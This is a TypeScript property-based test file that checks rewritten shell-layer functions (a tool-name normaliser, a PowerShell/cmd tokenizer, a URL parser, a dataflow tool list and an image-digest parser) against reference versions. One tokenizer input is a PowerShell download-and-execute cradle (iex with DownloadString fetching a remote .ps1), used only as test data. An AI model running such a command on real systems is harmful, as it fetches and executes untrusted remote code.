/**
 * Faster rewrites in the shell layer, compared with the code they replaced (kept here as the reference): the
 * regular expressions now skipped or replaced by loops give the same answers.
 */
import { strict as assert } from 'node:assert';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { it } from 'node:test';
import fc from 'fast-check';
import { parseImageRef } from '../../src/model/image-ref.js';
import { parseUrl } from '../../src/shell/commands.js';
import { SWITCH_TOOLS } from '../../src/shell/dataflow.js';
import { toolKey } from '../../src/shell/options.js';
import { tokenize } from '../../src/shell/powershell.js';
import type { Tok } from '../../src/shell/powershell.js';
import type { Word } from '../../src/shell/types.js';
import { repoRoot } from '../helpers/paths.js';

function toolKeyReference(name: string): string {
  if (/^python[0-9.]*$/.test(name)) return 'python';
  if (/^pip[0-9.]*$/.test(name)) return 'pip';
  if (/^(perl|ruby|php)[0-9.]*$/.test(name)) return name.startsWith('php') ? 'php' : name.slice(0, 4);
  if (name === 'nodejs') return 'node';
  if (name === 'gpg2') return 'gpg';
  return name;
}

const pieces = (parts: readonly string[], maxLength = 8) => fc.array(fc.constantFrom(...parts), { maxLength }).map((a) => a.join(''));

it('toolKey answers as its regular expressions do', () => {
  const names = pieces(['python', 'pip', 'perl', 'ruby', 'php', 'node', 'js', 'gpg', '2', '3', '.', '1', 'p', 'r', 'x', '-', ''], 4);
  fc.assert(fc.property(names, (n) => assert.equal(toolKey(n), toolKeyReference(n))), { numRuns: 5000, seed: 3 });
  for (const n of ['python3.11', 'pip3', 'perl5.36', 'ruby', 'php8.2', 'nodejs', 'gpg2', 'curl', '', 'py', 'rpm']) assert.equal(toolKey(n), toolKeyReference(n));
});

/** The PowerShell/cmd tokenizer as it was (one string append per character). */
function tokenizeReference(text: string, shell: 'powershell' | 'cmd'): Tok[] {
  const toks: Tok[] = [];
  const esc = shell === 'powershell' ? '`' : '^';
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (c === ' ' || c === '\t' || c === '\r') {
      i++;
      continue;
    }
    if (c === esc && text[i + 1] === '\n') {
      i += 2;
      continue;
    }
    if (shell === 'powershell' && c === '#') {
      while (i < text.length && text[i] !== '\n') i++;
      continue;
    }
    const two = text.slice(i, i + 2);
    if (two === '&&' || two === '||') {
      toks.push({ kind: 'op', text: two, value: two, start: i, end: i + 2, quoted: false });
      i += 2;
      continue;
    }
    if (c === '\n' || c === ';' || c === '|' || c === '(' || c === ')' || c === '{' || c === '}' || c === ',' || (c === '&' && shell === 'cmd')) {
      toks.push({ kind: 'op', text: c, value: c, start: i, end: i + 1, quoted: false });
      i++;
      continue;
    }
    const start = i;
    let value = '';
    let dynamic = false;
    let quoted = false;
    while (i < text.length) {
      const d = text[i]!;
      if (d === "'" || d === '"') {
        quoted = true;
        const q = d;
        i++;
        while (i < text.length && text[i] !== q) {
          if (shell === 'powershell' && q === '"' && (text[i] === '$' || text[i] === '`')) dynamic = true;
          if (shell === 'cmd' && text[i] === '%') dynamic = true;
          value += text[i];
          i++;
        }
        if (i < text.length) i++;
        continue;
      }
      if (' \t\r\n;|(){},'.includes(d) || (shell === 'cmd' && d === '&') || (d === '&' && text[i + 1] === '&')) break;
      if (d === esc && i + 1 < text.length) {
        value += text[i + 1];
        i += 2;
        continue;
      }
      if (d === '$' || (shell === 'cmd' && d === '%')) dynamic = true;
      value += d;
      i++;
    }
    if (i === start) i++;
    toks.push({ kind: 'word', text: text.slice(start, i), value: dynamic ? null : value, start, end: i, quoted });
  }
  return toks;
}

it('the PowerShell/cmd tokenizer answers as the per-character one did', () => {
  const text = pieces(['a', 'Invoke', ' ', '\t', '\r', '\n', '"', "'", '`', '^', '$x', '%P%', '&', '&&', '|', '||', ';', '(', ')', '{', '}', ',', '#', '.DownloadString', 'é', '😀'], 14);
  fc.assert(
    fc.property(text, fc.constantFrom('powershell' as const, 'cmd' as const), (s, shell) => assert.deepEqual(tokenize(s, shell), tokenizeReference(s, shell))),
    { numRuns: 20000, seed: 5 },
  );
  for (const s of ['iex ((New-Object Net.WebClient).DownloadString("https://x/y.ps1"))', 'echo "a`"b" \'c\' d`\ne', 'set "X=%P%" && curl -o "a b" ^\n x']) {
    for (const shell of ['powershell', 'cmd'] as const) assert.deepEqual(tokenize(s, shell), tokenizeReference(s, shell), s);
  }
});

it('parseUrl finds URLs only where the scheme regex would', () => {
  const text = pieces(['http', 's', ':', '/', '//', 'a', '@', '.', '?', '#', 'git+', '1', ' '], 8);
  const re = /^([A-Za-z][A-Za-z0-9+.-]*):\/\/([^/?#]*)/;
  fc.assert(
    fc.property(text, (s) => {
      const w: Word = { value: s, dynamic: false, prefix: s, raw: s, range: { start: 0, end: s.length }, quoted: false };
      assert.equal(parseUrl(w) !== null, re.test(s));
    }),
    { numRuns: 3000, seed: 5 },
  );
});

it("the dataflow's list of the tools its switch handles matches the switch's case labels", () => {
  const src = readFileSync(join(repoRoot, 'src', 'shell', 'dataflow.ts'), 'utf8');
  const body = src.slice(src.indexOf('    switch (tool) {'), src.indexOf('    if (CHECKSUM_TOOLS.has(tool) && c.inSubstitution)'));
  const labels = [...body.matchAll(/case '([^']+)':/g)].map((m) => m[1]!);
  assert.ok(labels.length > 30, 'the switch was found');
  assert.deepEqual([...labels].sort(), [...SWITCH_TOOLS].sort());
});

it('image digests need 32 or more hex digits (the regex without its {32,} bound)', () => {
  const code = (hex: string) => {
    const r = parseImageRef(`alpine@sha999:${hex}`);
    return r.ok ? 'ok' : r.code;
  };
  assert.equal(code('a'.repeat(31)), 'invalid-digest');
  assert.equal(code('aB0'.repeat(11)), 'unsupported-digest');
  assert.equal(code('0'.repeat(32) + 'g'), 'invalid-digest');
  assert.equal(code(''), 'invalid-digest');
});
